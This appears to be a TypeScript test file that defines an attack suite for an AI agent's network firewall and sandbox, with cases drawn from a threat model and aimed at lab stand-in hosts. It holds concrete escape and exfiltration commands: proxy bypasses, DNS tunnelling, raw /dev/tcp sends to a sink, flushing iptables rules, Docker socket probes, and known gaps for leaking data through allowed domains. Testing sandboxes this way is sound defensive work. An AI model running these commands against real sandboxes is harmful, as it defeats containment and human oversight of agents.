/**
 * The attack suite's cases, derived from docs/threat-model.md (each names its threat), not from
 * the implementation. A case is a bash script run inside the firewall (in the agent, or in the
 * proxy container for T9) and, unchanged, in the unfirewalled control container; `$N` is the
 * run's nonce (the control's ends in `c`), `$CA` the lab CA, `$NPORT` a port derived from the
 * nonce, `$GW` the runner's address on the container's network.
 */
import { LAB } from '../helpers/lab.js'

const A = LAB.addresses

export type Category =
  'proxy' | 'dns' | 'packet' | 'host' | 'privilege' | 'environment' | 'integrity' | 'known-gap'

/** Where a denial shows: the attack's own output, Squid's access log, dnsmasq's log, the kernel log. */
export type Evidence = 'output' | 'access' | 'dns' | 'kernel'

export interface AttackCase {
  readonly id: string
  readonly category: Category
  /** The threat model row this case attacks (T1...). */
  readonly threat: string
  /**
   * Where the attack runs: in the agent (the default), or in the proxy container as Squid's
   * user, standing in for code execution gained through a Squid or dnsmasq vulnerability (T9).
   */
  readonly from?: 'agent' | 'proxy'
  readonly script: string
  /**
   * How the control proves the attack works without the firewall: the lab log holds this
   * needle (with the control's nonce), or the control's output matches. `local` = a local
   * privilege with no network target: there is nothing for a control to reach.
   */
  readonly control: { lab: string } | { output: RegExp } | 'local'
  /** The needle (with the firewalled run's nonce) that must never appear in the lab log. */
  readonly leak?: string
  /** Every signature of the denial that must be present. `$N` is replaced by the nonce. */
  readonly denied: readonly { readonly in: Evidence; readonly match: string }[]
  /**
   * The event the run's report must hold for this attempt (LAB rule 5: every blocked attempt
   * is reported): the refusing layer, the target (`$N` is the nonce) and the port. Derived
   * from the Squid and kernel signatures where there is one; attempts that never send a
   * packet (refused syscalls, sockets) have none.
   */
  readonly reported?: {
    readonly layer: 'proxy' | 'dns' | 'agent' | 'host' | 'runner'
    /** Absent where the address is the run's own (the runner's gateway address). */
    readonly target?: string
    readonly port?: number
  }
  /**
   * A documented, accepted gap (docs/threat-model.md): the attack is expected to get
   * through; the suite reports it as GAP, and fails if it ever stops working unnoticed.
   */
  readonly gap?: string
}

const py = (code: string): string => `python3 -c '${code}'`
const curl = (args: string): string => `curl -sS --max-time 5 ${args}`
const status = (args: string): string =>
  `curl -sS --max-time 5 -o /dev/null -w "%{http_code}" ${args}`
const esc = (s: string): string => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')
const denied403 = (
  method: string,
  host: string,
  port: number
): { in: Evidence; match: string } => ({
  in: 'access',
  match: `TCP_DENIED/403 ${method} ${esc(host)} ${port} `
})
/** The container rules' log line for a connection to ip:port (`$NPORT` allowed). */
const agentDrop = (ip: string, port: string): { in: Evidence; match: string } => ({
  in: 'kernel',
  match: `agent-drop: .*DST=${esc(ip)} .*DPT=${port} `
})

/** The host rules' log line for a packet from the proxy's network to ip:port. */
const hostDrop = (ip: string, port: string): { in: Evidence; match: string } => ({
  in: 'kernel',
  match: `host-drop: .*DST=${esc(ip)} .*DPT=${port} `
})

/** An HTTP GET with bash alone (the proxy image has no HTTP client). */
const rawGet = (ip: string, port: number, path: string, host?: string): string =>
  `exec 3<>/dev/tcp/${ip}/${port} && printf "GET ${path} HTTP/1.0\\r\\n${host ? `Host: ${host}\\r\\n` : ''}\\r\\n" >&3 && cat <&3`

/** Python: a socket to `host:port`, through a CONNECT tunnel to `host:443` when a proxy is set. */
const tunnelOrDirect = (host: string, port: number): string =>
  `import os,socket,ssl; p=os.environ.get("PROXY"); s=socket.create_connection((p,3128) if p else ("${host}",${port}),5); ` +
  `p and s.sendall(b"CONNECT ${host}:443 HTTP/1.1\\r\\nHost: ${host}:443\\r\\n\\r\\n"); print(s.recv(4096).split(b"\\r\\n")[0].decode() if p else "")`

/**
 * A TLS ClientHello without a server name, then `request` inside: through a tunnel in the
 * sandbox, straight to the host for the control.
 */
const tlsWithoutSni = (host: string, request: string): string =>
  py(
    `${tunnelOrDirect(host, 443)}; c=ssl.create_default_context(cafile=os.environ["CA"]); c.check_hostname=False; ` +
      `t=c.wrap_socket(s); t.sendall(b"${request}"); print(t.recv(4096).decode())`
  )

/** Plain HTTP where TLS should be: inside a tunnel to 443 (sandbox), or to port 80 (control). */
const plainInTunnel = (host: string, request: string): string =>
  py(`${tunnelOrDirect(host, 80)}; s.sendall(b"${request}"); print(s.recv(4096).decode())`)

/** A listener on the runner itself, on every address (the suite starts it). */
export const RUNNER_PORT = 18190

/** 198.18.0.10 in other notations that clients and Squid read as the same address. */
function ipForms(ip: string): Record<string, string> {
  const parts = ip.split('.').map(Number)
  const n = parts.reduce((acc, p) => acc * 256 + p, 0)
  return {
    decimal: String(n),
    hex: `0x${n.toString(16)}`,
    octal: parts.map((p) => `0${p.toString(8)}`).join('.'),
    short: `${parts[0]}.${parts[1]}.${(parts[2]! << 8) + parts[3]!}`
  }
}

/** A raw syscall through libc, printing the errno name (or OK). */
const syscall = (nr: number): string =>
  py(
    `import ctypes,errno; libc=ctypes.CDLL(None,use_errno=True); r=libc.syscall(${nr},0,0,0,0,0,0); e=ctypes.get_errno(); print("OK" if r>=0 else errno.errorcode.get(e,e))`
  )

/** The socket-family cases through the 32-bit x86 syscall ABI (x86_64 machines only). */
export const IA32_SOCKET_CASES = ['priv-socket-ia32-socketcall', 'priv-socket-ia32-socket']

/**
 * Socket families outside AF_UNIX, AF_INET, AF_INET6 and AF_NETLINK, through every door
 * (socket-probes.ts). AF_VSOCK needs no capability and is not namespaced, so the control
 * opens it; the control (root, Docker's default capabilities) opens AF_PACKET too, which the
 * agent would also lose to the capability drop.
 */
function socketFamilyCases(ia32: boolean): AttackCase[] {
  const native = (id: string, family: number): AttackCase => ({
    id,
    category: 'privilege',
    threat: 'T1',
    script: `python3 socket-probe.py ${family}`,
    control: { output: new RegExp(`^${family}=OK$`) },
    denied: [{ in: 'output', match: `^${family}=EPERM$` }]
  })
  return [
    native('priv-socket-family-vsock', 40),
    native('priv-socket-family-packet', 17),
    {
      id: 'priv-socket-family-sweep',
      category: 'privilege',
      threat: 'T1',
      // Families 0-63 but the four allowed; the kernel's own answer (EAFNOSUPPORT for what it
      // lacks, OK for what it has) is never EPERM, so EPERM for each is the profile's.
      script: 'python3 socket-probe.py sweep',
      control: { output: /^not EPERM: .*\b40=OK\b/ },
      denied: [{ in: 'output', match: '^every family EPERM$' }]
    },
    ...(ia32 ? ['socketcall', 'socket'] : []).map((path): AttackCase => ({
      id: `priv-socket-ia32-${path}`,
      category: 'privilege',
      threat: 'T1',
      // AF_VSOCK through the 32-bit ABI: the profile maps no ia32, so the program is killed
      // (SIGSYS) at its first syscall, and bash says so.
      script: `./ia32-${path}-vsock && echo opened`,
      control: { output: /^opened$/m },
      denied: [{ in: 'output', match: 'Bad system call' }]
    }))
  ]
}

export function attackCases(
  seccompTable: readonly { name: string; nr: number }[],
  { ia32 = true }: { ia32?: boolean } = {}
): AttackCase[] {
  const forms = ipForms(A.allowed!)
  const cases: AttackCase[] = [
    // --- proxy / L7 -------------------------------------------------------------------------
    {
      id: 'proxy-blocked-name-http',
      category: 'proxy',
      threat: 'T4',
      script: status('http://blocked.test/$N-p1'),
      control: { lab: '-p1' },
      leak: '-p1',
      denied: [{ in: 'output', match: '^403$' }, denied403('GET', 'blocked.test', 80)]
    },
    {
      id: 'proxy-blocked-name-https',
      category: 'proxy',
      threat: 'T4',
      script: curl('--cacert "$CA" https://blocked.test/$N-p2'),
      control: { lab: '-p2' },
      leak: '-p2',
      denied: [
        { in: 'output', match: 'CONNECT tunnel failed, response 403' },
        denied403('CONNECT', 'blocked.test', 443)
      ]
    },
    {
      id: 'proxy-blocked-subdomain',
      category: 'proxy',
      threat: 'T4',
      script: status('http://api.blocked.test/$N-p3'),
      control: { lab: '-p3' },
      leak: '-p3',
      denied: [denied403('GET', 'api.blocked.test', 80)]
    },
    {
      id: 'proxy-name-case-and-trailing-dot',
      category: 'proxy',
      threat: 'T4',
      script: status('http://BLOCKED.TEST./$N-p4'),
      control: { lab: '-p4' },
      leak: '-p4',
      denied: [{ in: 'output', match: '^403$' }]
    },
    {
      id: 'proxy-userinfo-confusion',
      category: 'proxy',
      threat: 'T4',
      script: status('"http://allowed.test@blocked.test/$N-p5"'),
      control: { lab: '-p5' },
      leak: '-p5',
      denied: [denied403('GET', 'blocked.test', 80)]
    },
    ...Object.entries({ dotted: A.allowed!, ...forms }).map(([form, host]): AttackCase => ({
      id: `proxy-ip-literal-${form}`,
      category: 'proxy',
      threat: 'T4',
      script: status(`http://${host}/$N-ip${form}`),
      control: { lab: `-ip${form}` },
      leak: `-ip${form}`,
      denied: [{ in: 'output', match: '^403$' }, denied403('GET', A.allowed!, 80)]
    })),
    {
      id: 'proxy-ip-literal-connect',
      category: 'proxy',
      threat: 'T4',
      script: curl(`-k https://${A.allowed}/$N-p6`),
      control: { lab: '-p6' },
      leak: '-p6',
      denied: [denied403('CONNECT', A.allowed!, 443)]
    },
    {
      id: 'proxy-other-port-http',
      category: 'proxy',
      threat: 'T4',
      script: status('http://allowed.test:8080/$N-p7'),
      control: { lab: '-p7' },
      leak: '-p7',
      denied: [denied403('GET', 'allowed.test', 8080)]
    },
    {
      id: 'proxy-other-port-connect',
      category: 'proxy',
      threat: 'T4',
      script: curl('--cacert "$CA" https://allowed.test:8443/$N-p8'),
      control: { lab: '-p8' },
      leak: '-p8',
      denied: [denied403('CONNECT', 'allowed.test', 8443)]
    },
    {
      id: 'proxy-rebinding-to-private',
      category: 'proxy',
      threat: 'T4',
      script: status('http://rebind.test/$N-p9'),
      control: { lab: '-p9' },
      leak: '-p9',
      denied: [{ in: 'output', match: '^403$' }, denied403('GET', 'rebind.test', 80)]
    },
    {
      id: 'proxy-metadata-stand-in',
      category: 'proxy',
      threat: 'T4',
      script: status('http://metadata.test/$N-p10'),
      control: { lab: '-p10' },
      leak: '-p10',
      denied: [denied403('GET', 'metadata.test', 80)]
    },
    {
      id: 'proxy-host-header-swap',
      category: 'proxy',
      threat: 'T4',
      // Allowed name in the URL, the blocked virtual host in the Host header.
      script: curl('-H "Host: shared-blocked.test" http://shared-allowed.test/$N-p11'),
      control: { output: /LAB-SHARED-BLOCKED/ },
      denied: [{ in: 'output', match: '^(?![\\s\\S]*LAB-SHARED-BLOCKED)' }]
    },
    {
      id: 'proxy-sni-fronting',
      category: 'proxy',
      threat: 'T4',
      // A tunnel to the allowed name, the blocked name in the ClientHello: both share an address.
      script: curl(
        '--cacert "$CA" --connect-to shared-blocked.test:443:shared-allowed.test:443 https://shared-blocked.test/$N-s1'
      ),
      control: { lab: '-s1' },
      leak: '-s1',
      denied: [
        {
          in: 'access',
          match: 'CONNECT shared-allowed\\.test 443 .* shared-blocked\\.test terminate 3129$'
        }
      ],
      reported: { layer: 'proxy', target: 'shared-blocked.test', port: 443 }
    },
    {
      id: 'proxy-tls-without-sni',
      category: 'proxy',
      threat: 'T4',
      // No server name: the shared address would pick a virtual host by the inner Host alone.
      script: tlsWithoutSni(
        'shared-allowed.test',
        'GET /$N-s2 HTTP/1.0\\r\\nHost: shared-blocked.test\\r\\n\\r\\n'
      ),
      control: { lab: '-s2' },
      leak: '-s2',
      denied: [
        {
          in: 'access',
          match: 'CONNECT shared-allowed\\.test 443 .* - terminate 3129$'
        }
      ],
      reported: { layer: 'proxy', target: 'shared-allowed.test', port: 443 }
    },
    {
      id: 'proxy-not-tls-in-tunnel',
      category: 'proxy',
      threat: 'T4',
      // Plain HTTP inside a CONNECT to 443, naming the blocked virtual host.
      script: plainInTunnel(
        'shared-allowed.test',
        'GET /$N-s3 HTTP/1.0\\r\\nHost: shared-blocked.test\\r\\n\\r\\n'
      ),
      control: { lab: '-s3' },
      leak: '-s3',
      denied: [
        {
          in: 'access',
          match: 'CONNECT shared-allowed\\.test 443 .* ERR_PROTOCOL_UNKNOWN .* 3129$'
        }
      ],
      reported: { layer: 'proxy', target: 'shared-allowed.test', port: 443 }
    },
    {
      id: 'proxy-squid-manager',
      category: 'proxy',
      threat: 'T6',
      script: status('http://$PROXY:3128/squid-internal-mgr/menu'),
      control: 'local',
      denied: [{ in: 'output', match: '^403$' }]
    },
    {
      id: 'proxy-squid-internal-names',
      category: 'proxy',
      threat: 'T6',
      script: status('http://ready.awf.invalid/$N-p12'),
      control: 'local',
      denied: [denied403('GET', 'ready.awf.invalid', 80)]
    },
    {
      id: 'proxy-loopback-through-proxy',
      category: 'proxy',
      threat: 'T6',
      script: status('--noproxy "" http://localhost:3128/$N-p13'),
      control: 'local',
      denied: [denied403('GET', 'localhost', 3128)]
    },
    // --- DNS --------------------------------------------------------------------------------
    {
      id: 'dns-blocked-name',
      category: 'dns',
      threat: 'T3',
      script: 'getent hosts $N-d1.blocked.test',
      reported: { layer: 'dns', target: '$N-d1.blocked.test' },
      control: { lab: '-d1.blocked.test' },
      leak: '-d1.blocked.test',
      denied: [{ in: 'dns', match: 'config $N-d1\\.blocked\\.test is NXDOMAIN' }]
    },
    {
      id: 'dns-tunnel-through-forwarder',
      category: 'dns',
      threat: 'T3',
      script: 'getent hosts $N-d2.exfil.test',
      reported: { layer: 'dns', target: '$N-d2.exfil.test' },
      control: { lab: '-d2.exfil.test' },
      leak: '-d2.exfil.test',
      denied: [{ in: 'dns', match: 'config $N-d2\\.exfil\\.test is NXDOMAIN' }]
    },
    {
      id: 'dns-rogue-resolver-udp',
      category: 'dns',
      threat: 'T3',
      script: py(
        `import socket,os; n=(os.environ["N"]+"-d3").encode(); q=b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"+bytes([len(n)])+n+b"\\x04test\\x00\\x00\\x01\\x00\\x01"; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q,("${A.rogue}",53)); print(s.recv(512))`
      ),
      control: { lab: '-d3.test' },
      leak: '-d3.test',
      denied: [{ in: 'output', match: 'Operation not permitted' }, agentDrop(A.rogue!, '53')]
    },
    {
      id: 'dns-rogue-resolver-tcp',
      category: 'dns',
      threat: 'T3',
      script: py(
        `import socket,os; s=socket.create_connection(("${A.rogue}",53),timeout=3); print("connected")`
      ),
      control: { output: /connected/ },
      denied: [{ in: 'output', match: 'Connection refused' }, agentDrop(A.rogue!, '53')]
    },
    {
      id: 'dns-docker-embedded-resolver',
      category: 'dns',
      threat: 'T3',
      script: py(
        `import socket; q=b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07allowed\\x04test\\x00\\x00\\x01\\x00\\x01"; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q,("127.0.0.11",53)); print(s.recv(512))`
      ),
      control: 'local',
      denied: [{ in: 'output', match: 'Operation not permitted' }]
    },
    {
      id: 'dns-over-tls-direct',
      category: 'dns',
      threat: 'T3',
      script: `exec 3<>/dev/tcp/${A.sink}/853 && printf "$N-d4" >&3 && echo sent`,
      control: { lab: '-d4' },
      leak: '-d4',
      denied: [agentDrop(A.sink!, '853')]
    },
    {
      id: 'dns-over-https-ip',
      category: 'dns',
      threat: 'T3',
      script: curl(`-k "https://${A.resolver}/dns-query?$N-d5"`),
      control: 'local',
      leak: '-d5',
      denied: [denied403('CONNECT', A.resolver!, 443)]
    },
    // --- packet filter ----------------------------------------------------------------------
    {
      id: 'packet-direct-tcp-other-port',
      category: 'packet',
      threat: 'T2',
      script: curl(`--http0.9 --noproxy "*" http://${A.sink}:$NPORT/$N-k1`),
      control: { lab: '-k1' },
      leak: '-k1',
      denied: [
        { in: 'output', match: "Couldn't connect|Connection refused" },
        agentDrop(A.sink!, '$NPORT')
      ]
    },
    {
      id: 'packet-direct-80-ignoring-proxy',
      category: 'packet',
      threat: 'T2',
      script: curl(`--noproxy "*" -H "Host: allowed.test" http://${A.blocked}/$N-k2`),
      control: { lab: '-k2' },
      leak: '-k2',
      denied: [{ in: 'output', match: 'ERR_INVALID_URL' }]
    },
    {
      id: 'packet-direct-443-ignoring-proxy',
      category: 'packet',
      threat: 'T2',
      script: curl(
        `--noproxy "*" -k --resolve blocked.test:443:${A.blocked} https://blocked.test/$N-k3`
      ),
      control: { lab: '-k3' },
      leak: '-k3',
      denied: [{ in: 'output', match: 'SSL|TLS|wrong version|reset' }]
    },
    {
      id: 'packet-udp',
      category: 'packet',
      threat: 'T2',
      script: py(
        `import socket,os; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto((os.environ["N"]+"-k4").encode(),("${A.sink}",5353)); print("sent")`
      ),
      control: { lab: '-k4' },
      leak: '-k4',
      denied: [{ in: 'output', match: 'Operation not permitted' }]
    },
    {
      id: 'packet-quic-udp-443',
      category: 'packet',
      threat: 'T2',
      script: py(
        `import socket,os; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto((os.environ["N"]+"-k5").encode(),("${A.sink}",443)); print("sent")`
      ),
      control: { lab: '-k5' },
      leak: '-k5',
      denied: [{ in: 'output', match: 'Operation not permitted' }]
    },
    {
      id: 'packet-icmp-dgram',
      category: 'packet',
      threat: 'T2',
      script: py(
        `import socket,os; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM,socket.IPPROTO_ICMP); s.sendto(b"\\x08\\x00\\x00\\x00\\x00\\x01\\x00\\x01"+(os.environ["N"]+"-k6").encode(),("${A.sink}",0)); print("sent")`
      ),
      control: 'local',
      leak: '-k6',
      denied: [{ in: 'output', match: 'Permission denied|Operation not permitted' }]
    },
    {
      id: 'packet-raw-socket',
      category: 'packet',
      threat: 'T2',
      script: py(
        `import socket; socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP); print("raw socket")`
      ),
      control: { output: /raw socket/ },
      denied: [{ in: 'output', match: 'Operation not permitted' }]
    },
    {
      id: 'packet-ipv6',
      category: 'packet',
      threat: 'T2',
      script: py(
        `import socket; s=socket.socket(socket.AF_INET6,socket.SOCK_STREAM); s.settimeout(3); s.connect(("2001:db8:18::10",80)); print("connected")`
      ),
      control: 'local',
      denied: [{ in: 'output', match: 'Cannot assign|unreachable|not permitted|Address family' }]
    },
    // --- host and neighbours ----------------------------------------------------------------
    {
      id: 'host-runner-port-via-gateway',
      category: 'host',
      threat: 'T5',
      script: curl('--noproxy "*" http://$GW:$RUNNERPORT/$N-h1'),
      control: { output: /RUNNER-LISTENER/ },
      denied: [{ in: 'output', match: "Couldn't connect|Connection refused|timed out" }]
    },
    {
      id: 'host-runner-port-through-proxy',
      category: 'host',
      threat: 'T5',
      script: status('http://$GW:$RUNNERPORT/$N-h2'),
      control: 'local',
      denied: [{ in: 'output', match: '^403$' }]
    },
    {
      id: 'host-sibling-container',
      category: 'host',
      threat: 'T5',
      script: curl('--noproxy "*" http://$SIBLING:8000/$N-h3'),
      control: { output: /SIBLING/ },
      denied: [{ in: 'output', match: "Couldn't connect|Connection refused|timed out" }]
    },
    {
      id: 'host-docker-socket',
      category: 'host',
      threat: 'T1',
      script: 'ls -l /var/run/docker.sock /run/docker.sock; docker version',
      control: 'local',
      denied: [{ in: 'output', match: 'No such file or directory' }]
    },
    // --- a compromised proxy (T9): the proxy is the only container with a route out ----------
    {
      id: 'pivot-proxy-other-port',
      category: 'host',
      threat: 'T9',
      from: 'proxy',
      script: `exec 3<>/dev/tcp/${A.sink}/$NPORT && printf "$N-v1\\n" >&3 && echo sent`,
      control: { lab: '-v1' },
      leak: '-v1',
      denied: [hostDrop(A.sink!, '$NPORT')]
    },
    {
      id: 'pivot-proxy-udp',
      category: 'host',
      threat: 'T9',
      from: 'proxy',
      script: `printf "$N-v2" >/dev/udp/${A.sink}/5353 && echo sent`,
      control: { lab: '-v2' },
      leak: '-v2',
      denied: [hostDrop(A.sink!, '5353')]
    },
    ...[
      { id: 'pivot-proxy-internal-host', ip: A.internal!, tag: '-v3' },
      { id: 'pivot-proxy-metadata-stand-in', ip: A.metadata!, tag: '-v4' }
    ].map(({ id, ip, tag }): AttackCase => ({
      id,
      category: 'host',
      threat: 'T9',
      from: 'proxy',
      script: rawGet(ip, 80, `/$N${tag}`),
      control: { lab: tag },
      leak: tag,
      denied: [hostDrop(ip, '80')]
    })),
    {
      id: 'pivot-proxy-runner-port',
      category: 'host',
      threat: 'T9',
      from: 'proxy',
      script: rawGet('$GW', RUNNER_PORT, '/$N-v5'),
      control: { output: /RUNNER-LISTENER/ },
      denied: [
        { in: 'output', match: '^(?![\\s\\S]*RUNNER-LISTENER)' },
        { in: 'kernel', match: `runner-drop: .*DPT=${RUNNER_PORT} ` }
      ],
      reported: { layer: 'runner', port: RUNNER_PORT }
    },
    // --- environment ------------------------------------------------------------------------
    {
      id: 'env-proxy-variables-unset',
      category: 'environment',
      threat: 'T2',
      script: `env -u http_proxy -u HTTP_PROXY -u ALL_PROXY -u all_proxy ${curl('http://blocked.test/$N-e1')}`,
      control: { lab: '-e1' },
      leak: '-e1',
      denied: [{ in: 'dns', match: 'blocked\\.test is NXDOMAIN' }]
    },
    {
      id: 'env-proxy-overridden-to-sink',
      category: 'environment',
      threat: 'T2',
      script: `https_proxy=http://${A.sink}:3128 ${curl('--cacert "$CA" https://blocked.test/$N-e2')}`,
      control: 'local',
      leak: '-e2',
      denied: [
        { in: 'output', match: "Couldn't connect|Connection refused" },
        agentDrop(A.sink!, '3128')
      ]
    },
    {
      id: 'env-no-proxy-star',
      category: 'environment',
      threat: 'T2',
      script: `NO_PROXY="*" no_proxy="*" ${curl('http://blocked.test/$N-e3')}`,
      control: { lab: '-e3' },
      leak: '-e3',
      denied: [{ in: 'output', match: 'Could not resolve host' }]
    },
    {
      id: 'env-socks-all-proxy',
      category: 'environment',
      threat: 'T2',
      script: curl(`--proxy socks5h://${A.sink}:1080 http://blocked.test/$N-e4`),
      control: 'local',
      leak: '-e4',
      denied: [agentDrop(A.sink!, '1080')]
    },
    {
      id: 'env-hosts-pinning',
      category: 'environment',
      threat: 'T2',
      script: `echo "${A.blocked} allowed.test" >> /etc/hosts; ${curl(`--noproxy "*" --resolve allowed.test:80:${A.blocked} http://allowed.test/$N-e5`)}`,
      control: { lab: '-e5' },
      leak: '-e5',
      denied: [{ in: 'output', match: 'Read-only file system|ERR_INVALID_URL' }]
    },
    // --- privilege --------------------------------------------------------------------------
    {
      id: 'priv-capabilities-empty',
      category: 'privilege',
      threat: 'T1',
      script:
        'grep -E "^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):" /proc/self/status',
      control: 'local',
      denied: [
        { in: 'output', match: 'CapEff:\\s+0{16}' },
        { in: 'output', match: 'CapBnd:\\s+0{16}' },
        { in: 'output', match: 'NoNewPrivs:\\s+1' },
        { in: 'output', match: 'Seccomp:\\s+2' }
      ]
    },
    {
      id: 'priv-net-admin-rule-change',
      category: 'privilege',
      threat: 'T1',
      script: py(
        `import socket,fcntl,struct; fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sH14x", b"lo", 0x49)); print("changed")`
      ),
      control: 'local',
      denied: [{ in: 'output', match: 'Errno 1' }]
    },
    {
      id: 'priv-flush-own-rules',
      category: 'privilege',
      threat: 'T1',
      // Remove the container rules, then go straight to a service on the runner.
      script:
        'iptables -w -F AWF-OUT; iptables -w -t nat -F AWF-NAT; ' +
        curl('--noproxy "*" http://$GW:$RUNNERPORT/$N-x1'),
      control: 'local',
      denied: [
        { in: 'output', match: 'Permission denied|not permitted' },
        { in: 'output', match: '^(?![\\s\\S]*RUNNER-LISTENER)' }
      ]
    },
    {
      id: 'priv-user-namespace',
      category: 'privilege',
      threat: 'T1',
      script: 'unshare -U -r true',
      control: 'local',
      denied: [{ in: 'output', match: 'Operation not permitted' }]
    },
    {
      id: 'priv-proc-sys-write',
      category: 'privilege',
      threat: 'T1',
      script: 'echo 1 > /proc/sys/net/ipv4/ip_forward',
      control: 'local',
      denied: [{ in: 'output', match: 'Read-only file system|Permission denied' }]
    },
    {
      id: 'priv-sys-write',
      category: 'privilege',
      threat: 'T1',
      script: 'echo 1 > /sys/class/net/lo/mtu',
      control: 'local',
      denied: [{ in: 'output', match: 'Read-only file system|Permission denied' }]
    },
    ...seccompTable.map(({ name, nr }): AttackCase => ({
      id: `priv-seccomp-${name}`,
      category: 'privilege',
      threat: 'T1',
      script: syscall(nr),
      control: 'local',
      denied: [{ in: 'output', match: '^EPERM$' }]
    })),
    ...socketFamilyCases(ia32),
    // --- integrity --------------------------------------------------------------------------
    {
      id: 'integrity-handshake-control',
      category: 'integrity',
      threat: 'T7',
      // Saying go (or abort) is the host's alone: the FIFO is read-only for everyone once the
      // host holds it open, and the control folder is a read-only mount.
      script: 'echo go > /awf/ctl/go',
      control: 'local',
      denied: [{ in: 'output', match: 'Permission denied' }]
    },
    {
      id: 'integrity-forge-log-lines',
      category: 'integrity',
      threat: 'T7',
      // Text that looks like the firewall's own log lines, on the command's output: the report
      // reads the layers' logs, never the command's output.
      script:
        'echo "1700000000.000 172.28.0.3 TCP_MISS/200 GET $N-forged.test 80 - 1 - http://$N-forged.test/"',
      control: 'local',
      denied: [{ in: 'output', match: '-forged\\.test' }]
    },
    // --- documented gaps --------------------------------------------------------------------
    {
      id: 'gap-exfiltration-to-allowed-domain',
      category: 'known-gap',
      threat: 'T8',
      script: status('http://allowed.test/$N-g1-secret-data'),
      control: { lab: '-g1' },
      denied: [],
      gap: 'an allowed domain receives whatever the command sends it'
    },
    {
      id: 'gap-dns-label-under-allowed-domain',
      category: 'known-gap',
      threat: 'T8',
      script: 'getent hosts $N-g2.allowed.test',
      control: { lab: '-g2.allowed.test' },
      denied: [],
      gap: 'names under an allowed domain are resolved upstream, so their labels reach its name server'
    },
    {
      id: 'gap-host-header-inside-tls',
      category: 'known-gap',
      threat: 'T8',
      script: curl(
        '--cacert "$CA" -H "Host: shared-blocked.test" https://shared-allowed.test/$N-g3'
      ),
      control: { output: /LAB-SHARED-BLOCKED/ },
      denied: [],
      gap: 'inside an allowed TLS tunnel (right server name) the Host header is not visible to the proxy'
    },
    {
      id: 'gap-compromised-proxy-allowed-port',
      category: 'known-gap',
      threat: 'T9',
      from: 'proxy',
      script: rawGet(A.blocked!, 80, '/$N-g4', 'blocked.test'),
      control: { lab: '-g4' },
      denied: [],
      gap: 'a compromised proxy reaches any public address on an allowed port: the host rules know ports and address ranges, not names'
    }
  ]
  return cases.map((c) => (c.reported || c.gap ? c : { ...c, reported: reportedFrom(c) }))
}

/** The report event implied by a Squid denial or a kernel drop signature. */
function reportedFrom(c: AttackCase): AttackCase['reported'] {
  const unescape = (s: string): string => s.replace(/\\(.)/g, '$1')
  for (const d of c.denied) {
    const squid = /^TCP_DENIED\/403 \S+ (\S+) (\d+) $/.exec(d.match)
    if (d.in === 'access' && squid)
      return { layer: 'proxy', target: unescape(squid[1]!), port: Number(squid[2]) }
    const drop = /^(agent|host)-drop: \.\*DST=(\S+) \.\*DPT=(\d+) $/.exec(d.match)
    if (d.in === 'kernel' && drop)
      return {
        layer: drop[1] as 'agent' | 'host',
        target: unescape(drop[2]!),
        port: Number(drop[3])
      }
  }
  return undefined
}

/** The firewalled run's policy: the lab's allowed hosts, and names that rebind to private space. */
export const SUITE_ALLOW = ['allowed.test', 'shared-allowed.test', 'rebind.test', 'metadata.test']
